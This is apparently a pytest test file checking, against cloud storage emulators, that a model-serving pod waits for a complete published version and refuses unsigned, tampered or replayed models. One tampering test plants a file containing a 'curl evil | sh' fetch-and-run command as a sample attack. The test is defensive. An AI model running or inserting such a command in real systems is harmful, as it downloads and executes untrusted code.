"""The model pods' wait for a complete version, for real: the script the Triton pods' init container runs
(components/rclone.py, wait_script) with the rclone remote in its environment (remote_env), run by rclone v1.75
(requirements-dev.txt) against the S3, GCS and Azure emulators (tests/emulators/storage.py), one bucket per cloud.

What differs from the cluster, and only that: each remote's `auth` options (the emulators' keys and endpoints
instead of the pod's workload identity; the storage options are identity_<cloud>.py's), seconds instead of
minutes for the wait, and one retry. The script and the variables' names are the pod's, byte for byte.
"""

from __future__ import annotations

import os
import random
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from mlplatform_client import signing

from components import model_signature
from components.model_sync.rclone import publish_script
from components.rclone import (
    MARKER,
    SIGNATURE,
    WAIT_MANIFEST_DIR,
    WAIT_POLL_SECONDS,
    WAIT_REPOSITORY,
    WAIT_SECONDS,
    WAIT_VERSION,
    Remote,
    azure_remote,
    gcs_remote,
    remote_env,
    s3_remote,
    wait_script,
)
from components.serving_stack import identity_aws, identity_azure, identity_gcp
from components.serving_stack.contract import READER_REMOTE
from tests.emulators.storage import AZURITE_ACCOUNT, Emulators, running_emulators, unknown_rclone_options

REGION = "us-east-1"
CLOUDS = ("aws", "gcp", "azure")
SHOWN = {"aws": "s3://models", "gcp": "gs://models", "azure": f"as://{AZURITE_ACCOUNT}/models"}


@dataclass
class Buckets:
    """One model bucket per cloud, each reached as the pods reach theirs: remote `models` from the environment."""

    workdir: Path
    remotes: dict[str, Remote]
    public_key: str = ""

    def env(self, cloud: str, **extra: str) -> dict[str, str]:
        scrubbed = {
            key: value
            for key, value in os.environ.items()
            if not key.startswith(("AWS_", "GOOGLE_", "AZURE_", "RCLONE_"))
        }
        return {
            **scrubbed,
            "HOME": str(self.workdir),
            "RCLONE_RETRIES": "1",
            "RCLONE_LOW_LEVEL_RETRIES": "1",
            "RCLONE_CHECKERS": "2",  # the GCS emulator answers one request at a time
            "RCLONE_CONTIMEOUT": "10s",
            "RCLONE_TIMEOUT": "30s",
            **remote_env(self.remotes[cloud]),
            **extra,
        }

    def rclone(self, cloud: str, *args: str) -> None:
        done = subprocess.run(
            ["rclone", *args], env=self.env(cloud), capture_output=True, text=True, timeout=90, check=False
        )
        assert done.returncode == 0, done.stderr

    def publish(self, cloud: str, version: str, seed: int, *, signed: bool = True) -> None:
        """Files, verified, then the marker last: the publisher's script (the sync writes replicas the same way)."""
        local = self.workdir / "local" / cloud / version
        generator = random.Random(seed)
        for name in ("ranker/config.pbtxt", "ranker/1/model.onnx"):
            (local / name).parent.mkdir(parents=True, exist_ok=True)
            (local / name).write_bytes(generator.randbytes(64 * 1024))
        done = subprocess.run(
            ["sh", str(self.workdir / "publish.sh"), str(local), f"{self.remotes[cloud].root}/{version}"],
            env=self.env(cloud, **(self.signer() if signed else {})),
            capture_output=True,
            text=True,
            timeout=90,
            check=False,
        )
        assert done.returncode == 0, done.stderr

    def signer(self) -> dict[str, str]:
        """The publisher's key and the client's signing command (mlplatform_client.signing)."""
        return {
            "MODEL_SIGNING_KEY": str(self.workdir / "publisher.pem"),
            "MODEL_SIGNER": f"{sys.executable} -m mlplatform_client.signing",
        }

    def manifests(self, cloud: str, version: str) -> Path:
        """The pod's emptyDir shared by wait-for-model and verify-model."""
        folder = self.workdir / "manifests" / cloud / version
        folder.mkdir(parents=True, exist_ok=True)
        return folder

    def verify(self, cloud: str, version: str) -> subprocess.CompletedProcess[str]:
        """The pod's verify-model step: components/model_signature.py with the standard library only (-I -S: no
        site packages, as in the python image), on what wait-for-model copied."""
        folder = self.manifests(cloud, version)
        return subprocess.run(
            [
                sys.executable,
                "-I",
                "-S",
                str(self.workdir / "model_signature.py"),
                "version",
                self.public_key,
                version,
                str(folder / MARKER),
                str(folder / SIGNATURE),
            ],
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )

    def wait_env(self, cloud: str, version: str, seconds: int) -> dict[str, str]:
        return self.env(
            cloud,
            **{
                WAIT_VERSION: f"{self.remotes[cloud].root}/{version}",
                WAIT_REPOSITORY: f"{SHOWN[cloud]}/{version}",
                WAIT_SECONDS: str(seconds),
                WAIT_POLL_SECONDS: "1",
                WAIT_MANIFEST_DIR: str(self.manifests(cloud, version)),
            },
        )

    def wait(self, cloud: str, version: str, seconds: int = 2) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["sh", "-c", wait_script()],
            env=self.wait_env(cloud, version, seconds),
            cwd=self.workdir,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )


@pytest.fixture(scope="module")
def buckets(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Buckets]:
    workdir = tmp_path_factory.mktemp("model-wait")
    with running_emulators(workdir) as emulators:
        kms_key = str(emulators.aws("kms").create_key()["KeyMetadata"]["Arn"])
        emulators.create_s3_bucket("models", kms_key)
        emulators.create_gcs_bucket("models")
        remotes = {
            "aws": s3_remote(READER_REMOTE, "models", REGION, kms_key, emulators.s3_auth()),
            "gcp": gcs_remote(READER_REMOTE, "models", emulators.gcs_auth()),
            "azure": azure_remote(READER_REMOTE, AZURITE_ACCOUNT, "models", emulators.azure_auth()),
        }
        (workdir / "publish.sh").write_text(publish_script())
        (workdir / "model_signature.py").write_text(model_signature.script())
        private, public = signing.generate_key()
        (workdir / "publisher.pem").write_bytes(private)
        state = Buckets(workdir, remotes, public)
        state.rclone("azure", "mkdir", remotes["azure"].root)  # the container (ModelBucket makes it in a cluster)
        yield state


def lines(done: subprocess.CompletedProcess[str]) -> list[str]:
    return [line for line in done.stdout.splitlines() if line.startswith("wait-for-model: ")]


@pytest.mark.parametrize("cloud", CLOUDS)
def test_an_empty_bucket_makes_the_wait_give_up_with_one_line_naming_the_marker(buckets: Buckets, cloud: str) -> None:
    """The first deploy, before anything is published: no crash loop of Triton, a bounded wait and its reason."""
    done = buckets.wait(cloud, "ranker/v1")
    assert done.returncode == 1, done.stdout + done.stderr
    said = lines(done)
    marker = f"{SHOWN[cloud]}/ranker/v1/{MARKER}"
    assert said[0].startswith(f"wait-for-model: waiting for {marker} (no marker yet")
    assert said[-1].startswith("wait-for-model: gave up after ") and f"{marker}: no marker yet" in said[-1]


@pytest.mark.parametrize("cloud", CLOUDS)
def test_files_without_their_marker_are_not_loaded(buckets: Buckets, cloud: str) -> None:
    """An upload or a sync still under way: its files are there, its marker is not."""
    local = buckets.workdir / "unfinished" / cloud
    local.mkdir(parents=True)
    (local / "model.onnx").write_bytes(random.Random(7).randbytes(4096))
    buckets.rclone(cloud, "copy", str(local), f"{buckets.remotes[cloud].root}/ranker/v2/ranker/1")
    done = buckets.wait(cloud, "ranker/v2")
    assert done.returncode == 1 and "no marker yet" in lines(done)[-1], done.stdout + done.stderr


@pytest.mark.parametrize("cloud", CLOUDS)
def test_a_published_version_lets_triton_start(buckets: Buckets, cloud: str) -> None:
    buckets.publish(cloud, "ranker/v3", seed=3)
    done = buckets.wait(cloud, "ranker/v3")
    assert done.returncode == 0, done.stdout + done.stderr
    assert lines(done) == [f"wait-for-model: {SHOWN[cloud]}/ranker/v3: complete, starting"]


@pytest.mark.parametrize("cloud", CLOUDS)
def test_a_file_that_does_not_match_the_marker_is_not_loaded(buckets: Buckets, cloud: str) -> None:
    buckets.publish(cloud, "ranker/v4", seed=4)
    damaged = buckets.workdir / "damaged.onnx"
    damaged.write_bytes(random.Random(99).randbytes(64 * 1024))  # same size, other bytes
    buckets.rclone(cloud, "copyto", str(damaged), f"{buckets.remotes[cloud].root}/ranker/v4/ranker/1/model.onnx")
    done = buckets.wait(cloud, "ranker/v4")
    assert done.returncode == 1, done.stdout + done.stderr
    assert "its files do not match the marker yet" in lines(done)[-1]


@pytest.mark.parametrize("cloud", CLOUDS)
def test_a_waiting_pod_starts_once_the_version_is_published(buckets: Buckets, cloud: str) -> None:
    """The first deploy's order: the pods wait, the version is published, the pods go on by themselves."""
    waiting = subprocess.Popen(
        ["sh", "-c", wait_script()],
        env=buckets.wait_env(cloud, "ranker/v5", seconds=90),
        cwd=buckets.workdir,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert waiting.stdout is not None
        first = waiting.stdout.readline()  # it has looked once and found nothing
        assert first.startswith(f"wait-for-model: waiting for {SHOWN[cloud]}/ranker/v5/{MARKER}"), first
        buckets.publish(cloud, "ranker/v5", seed=5)
        out, err = waiting.communicate(timeout=120)
    finally:
        if waiting.poll() is None:
            waiting.kill()
            waiting.wait()
    assert waiting.returncode == 0, out + err
    assert out.splitlines()[-1] == f"wait-for-model: {SHOWN[cloud]}/ranker/v5: complete, starting"


def test_a_bucket_the_reader_cannot_list_is_named_as_such(buckets: Buckets) -> None:
    env = buckets.wait_env("aws", "ranker/v1", seconds=1)
    env[WAIT_VERSION] = f"{READER_REMOTE}:no-such-bucket/ranker/v1"
    done = subprocess.run(["sh", "-c", wait_script()], env=env, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 1 and "cannot list the bucket" in lines(done)[-1], done.stdout + done.stderr
    assert "directory not found" in done.stderr  # rclone's own reason, in the same log


def test_the_readers_rclone_options_are_options_of_rclone() -> None:
    """The pods' remotes (identity_<cloud>.py) use only options the pinned image's rclone minor knows."""
    cluster = [
        s3_remote(READER_REMOTE, "b", REGION, "arn:aws:kms:us-east-1:1:key/k", identity_aws.RCLONE_AUTH),
        gcs_remote(READER_REMOTE, "b", identity_gcp.RCLONE_AUTH),
        azure_remote(READER_REMOTE, "acct", "models", identity_azure.RCLONE_AUTH),
    ]
    emulators = Emulators(1, 2, 3)
    test = [
        s3_remote(READER_REMOTE, "b", REGION, "k", emulators.s3_auth()),
        gcs_remote(READER_REMOTE, "b", emulators.gcs_auth()),
        azure_remote(READER_REMOTE, "acct", "models", emulators.azure_auth()),
    ]
    assert unknown_rclone_options(cluster) == set()
    assert [remote.options for remote in cluster[1:]] == [remote.options for remote in test[1:]]
    assert cluster[0].options.keys() == test[0].options.keys()


@pytest.mark.parametrize("cloud", CLOUDS)
def test_a_signed_version_passes_the_signature_check(buckets: Buckets, cloud: str) -> None:
    buckets.publish(cloud, "ranker/v6", seed=6)
    assert buckets.wait(cloud, "ranker/v6").returncode == 0
    done = buckets.verify(cloud, "ranker/v6")
    assert (done.returncode, done.stdout) == (0, "verify-model: ranker/v6: signature good\n"), done.stderr


@pytest.mark.parametrize("cloud", CLOUDS)
def test_a_planted_file_with_a_rewritten_manifest_is_refused(buckets: Buckets, cloud: str) -> None:
    """Someone who can write the bucket but has no signing key swaps a file and rewrites the manifest to match:
    the files match the marker (the wait passes) and the signature check refuses it before Triton starts."""
    buckets.publish(cloud, "ranker/v7", seed=7)
    root = f"{buckets.remotes[cloud].root}/ranker/v7"
    planted = buckets.workdir / "planted" / cloud
    planted.mkdir(parents=True)
    (planted / "model.py").write_bytes(b"import os; os.system('curl evil | sh')\n")
    buckets.rclone(cloud, "copyto", str(planted / "model.py"), f"{root}/ranker/1/model.py")
    manifest = planted / MARKER
    manifest.write_bytes(
        subprocess.run(
            ["rclone", "md5sum", root, "--exclude", f"/{MARKER}", "--exclude", f"/{SIGNATURE}"],
            env=buckets.env(cloud),
            capture_output=True,
            check=True,
        ).stdout
    )
    buckets.rclone(cloud, "copyto", str(manifest), f"{root}/{MARKER}")
    assert buckets.wait(cloud, "ranker/v7").returncode == 0
    done = buckets.verify(cloud, "ranker/v7")
    assert done.returncode == 1
    assert done.stdout == (
        "verify-model: ranker/v7: refused: its manifest's signature does not verify with the stack's public key\n"
    )


@pytest.mark.parametrize("cloud", CLOUDS)
def test_an_unsigned_version_is_refused(buckets: Buckets, cloud: str) -> None:
    buckets.publish(cloud, "ranker/v8", seed=8, signed=False)
    assert buckets.wait(cloud, "ranker/v8").returncode == 0
    done = buckets.verify(cloud, "ranker/v8")
    assert done.returncode == 1
    assert done.stdout == "verify-model: ranker/v8: refused: its manifest or signature is missing\n"


def test_a_signed_version_copied_under_another_path_is_refused(buckets: Buckets) -> None:
    """A good manifest and signature replayed at another path (an old version served as a new one)."""
    buckets.publish("gcp", "ranker/v9", seed=9)
    root = buckets.remotes["gcp"].root
    buckets.rclone("gcp", "copy", f"{root}/ranker/v9", f"{root}/ranker/v10")
    assert buckets.wait("gcp", "ranker/v10").returncode == 0
    done = buckets.verify("gcp", "ranker/v10")
    assert done.returncode == 1 and "does not verify" in done.stdout
